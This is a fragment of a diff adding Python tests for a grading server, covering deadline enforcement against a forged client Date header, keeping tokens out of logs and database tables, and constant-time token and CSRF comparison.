+        lying = {"Date": "Mon, 01 Jan 2001 00:00:00 GMT"}          # the client's clock is not the server's
+        body, kind = multipart(("file", "k.cu", SRC), ("received", None, b"0"), ("late", None, b"0"))
+        got = req(servers[0], "POST", "/api/submissions", token=k["ann"], body=body, headers={"Content-Type": kind, **lying})
+        assert got.status == 202 and got.json()["late"] is True
+        got = req(servers[1], "POST", "/api/submissions", token=r["ann"], body=body, headers={"Content-Type": kind, **lying})
+        assert got.status == 403 and "deadline" in got.json()["error"]
+        store = Store(refuse)
+        assert store.attempts("ann") == []
+        store.close()
+    finally:
+        for s in servers:
+            s.stop()
+
+
+# --- tokens ----------------------------------------------------------------------------------------
+
+def test_no_token_in_the_servers_log_or_in_any_table(tmp_path):
+    people = issue(tmp_path, "ann", "bob")
+    server = Attacked(tmp_path)
+    try:
+        aid = api_upload(server, people["ann"]).json()["id"]
+        req(server, "GET", f"/api/submissions/{aid}?token={people['ann']}")             # a token pasted in the wrong place
+        req(server, "GET", f"/api/submissions/{people['bob']}", token=people["ann"])     # ... or as an id
+        req(server, "GET", f"/students/{people['@instructor']}", token=people["@instructor"])
+        req(server, "POST", "/login", body=f"token={people['bob']}".encode(),
+            headers={"Content-Type": "application/x-www-form-urlencoded"})
+        req(server, "POST", "/login", body=f"token={people['bob']}x".encode(),
+            headers={"Content-Type": "application/x-www-form-urlencoded"})
+        req(server, "GET", "/", cookie=f"grader_session={people['ann']}")
+        req(server, "GET", f"/api/submissions/{aid}/events", token=people["ann"] + "-wrong")
+    finally:
+        server.stop()
+    log = server.log.read_text()
+    assert "GET /api/submissions/" in log                                    # the access log is on
+    for token in people.values():
+        assert token not in log and token[:20] not in log
+    with sqlite3.connect(tmp_path / "grader.sqlite") as db:
+        tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
+        dump = "\n".join(str(row) for t in tables for row in db.execute(f"SELECT * FROM {t}"))  # noqa: S608
+        hashes = [r[0] for r in db.execute("SELECT hash FROM tokens")]
+    for token in people.values():
+        assert token not in dump
+    assert all(re.fullmatch(r"[0-9a-f]{64}", h) for h in hashes)
+    # a stolen store's hashes are no tokens
+    store = Store(tmp_path)
+    assert all(store.who(h) is None for h in hashes)
+    store.close()
+
+
+def test_token_and_csrf_comparisons_are_constant_time():
+    """Read from the code: a token is looked up by its sha256 (an attacker's timing learns bits of
+    a hash of their own guess, nothing of a stored token), and the CSRF token is compared with
+    hmac.compare_digest."""
+    import inspect
+
+    from grader.serve.course import Course
+    from grader.serve.store import Store as S
+
+    who = inspect.getsource(S.who)
+    assert "token_hash(token)" in who and "WHERE hash = ?" in who
+    assert "hmac.compare_digest" in inspect.getsource(Course.csrf_ok)
+    assert "secrets.token_urlsafe(32)" in inspect.getsource(S.issue)
